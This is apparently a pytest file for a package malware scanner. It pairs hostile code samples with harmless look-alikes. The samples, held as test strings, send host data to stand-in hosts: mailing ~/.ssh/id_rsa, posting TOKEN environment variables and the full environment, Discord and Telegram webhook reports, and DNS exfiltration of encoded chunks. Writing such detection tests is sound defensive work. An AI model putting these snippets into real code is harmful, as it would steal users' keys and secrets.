"""What a send carries and where it goes, one step beyond the call: requests on connections to literal IPs,
f-string addresses, webhook and mail clients, the environment gathered for a send, names looked up in loops;
each beside an everyday look-alike that stays quiet."""

from pypi_platform_tests.lib.scans.python_scan import found, rules


def _lines(source: str, rule: str) -> list[int]:
    return [line for found_rule, line in found(source) if found_rule == rule]


# --- network.literal-ip-connection: the request on the connection -------------------------------------------
def test_network_literal_ip_connection_request_on_a_connection_to_a_literal_ip():
    source = """
    import http.client, os
    secure = http.client.HTTPSConnection(host="198.51.100.12", port=443)
    secure.request("GET", "/install?cwd=" + os.getcwd())
    """
    assert _lines(source, "network.literal-ip-connection") == [3, 4]


def test_requests_on_a_connection_to_a_named_host_are_quiet():
    source = """
    import http.client
    conn = http.client.HTTPSConnection("api.example.org")
    conn.request("GET", "/v1/status")
    local = http.client.HTTPConnection("127.0.0.1", 8080)
    local.request("GET", "/")
    """
    assert _lines(source, "network.literal-ip-connection") == []


# --- network.paste-or-webhook-url: f-string addresses folded --------------------------------------------------
def test_network_paste_or_webhook_url_assembled_in_an_f_string():
    source = """
    import requests
    BOT = "7093416258:AAF7D5GkbhQW3ShM5Nd3XbSXasGF_QPFO-O"
    def report(text):
        url = f"https://api.telegram.org/bot{BOT}/sendMessage"
        requests.post(f"https://api.telegram.org/bot{BOT}/sendDocument", data={"t": text})
    """
    assert _lines(source, "network.paste-or-webhook-url") == [5, 6]


def test_f_string_addresses_of_ordinary_apis_are_quiet():
    source = """
    import requests
    API = "https://api.example.org"
    def fetch(name, token):
        url = f"{API}/v1/items/{name}"
        label = f"user {name}"
        return requests.get(f"https://api.telegram.org/bot{token}/getMe")
    """
    assert rules(source) <= {"network.connection", "network.messaging-api"}


# --- exfiltration.host-data: webhook clients and mail ----------------------------------------------------------
def test_exfiltration_host_data_in_a_webhook_client_message():
    source = """
    import getpass, socket
    from discord_webhook import DiscordWebhook
    DiscordWebhook(url=hook, content=f"on {socket.gethostname()} by {getpass.getuser()}").execute()
    """
    assert _lines(source, "exfiltration.host-data") == [4]


def test_a_webhook_client_sending_a_build_status_is_quiet():
    source = """
    from discord_webhook import DiscordWebhook
    DiscordWebhook(url=hook, content=f"build {version} passed").execute()
    """
    assert rules(source) == set()


def test_exfiltration_host_data_in_a_mail_message_sent():
    source = """
    import smtplib
    from email.message import EmailMessage
    from pathlib import Path
    message = EmailMessage()
    message.add_attachment(Path("~/.ssh/id_rsa").expanduser().read_bytes(), filename="k")
    with smtplib.SMTP("smtp.mail.example", 587) as smtp:
        smtp.send_message(message)
    """
    assert _lines(source, "exfiltration.host-data") == [6, 8]


def test_mailing_a_report_is_quiet():
    source = """
    import smtplib
    from email.message import EmailMessage
    message = EmailMessage()
    message.add_attachment(open("report.pdf", "rb").read(), filename="report.pdf")
    with smtplib.SMTP("smtp.mail.example", 587) as smtp:
        smtp.send_message(message)
    """
    assert _lines(source, "exfiltration.host-data") == []


# --- credentials.environment-dump: the statement that gathers what is sent --------------------------------------
def test_credentials_environment_dump_where_the_sent_environment_is_gathered():
    source = """
    import os, requests, socket
    def sync():
        found = {k: v for k, v in os.environ.items() if "TOKEN" in k}
        requests.post("https://cfg.example/env", data=found)
        dump = "\\n".join(f"{k}={v}" for k, v in os.environ.items())
        socket.create_connection(("cfg.example", 9000)).sendall(dump.encode())
    """
    assert _lines(source, "credentials.environment-dump") == [4, 5, 6, 7]


def test_an_environment_gathered_but_not_sent_is_quiet():
    source = """
    import os, requests
    settings = {k: v for k, v in os.environ.items() if k.startswith("MYAPP_")}
    requests.post("https://api.example.org/v1/jobs", json={"name": settings.get("MYAPP_NAME")})
    """
    assert _lines(source, "credentials.environment-dump") == []


# --- exfiltration.dns: names built in a loop that unpacks ----------------------------------------------------
def test_exfiltration_dns_of_encoded_chunks_looked_up_in_an_unpacking_loop():
    source = """
    import base64, os, socket
    def register():
        data = base64.b32encode(os.getcwd().encode()).decode()
        for index, chunk in enumerate(data[i:i + 50] for i in range(0, len(data), 50)):
            socket.getaddrinfo("%d.%s.d.collect.example" % (index, chunk), 53)
    """
    assert _lines(source, "exfiltration.dns") == [6]


def test_looking_up_hosts_of_a_table_in_a_loop_is_quiet():
    source = """
    import socket
    SERVERS = {"eu": "eu.api.example.org", "us": "us.api.example.org"}
    def resolve_all():
        for region, host in SERVERS.items():
            socket.getaddrinfo("%s.%s" % (region, host), 443)
    """
    assert _lines(source, "exfiltration.dns") == []
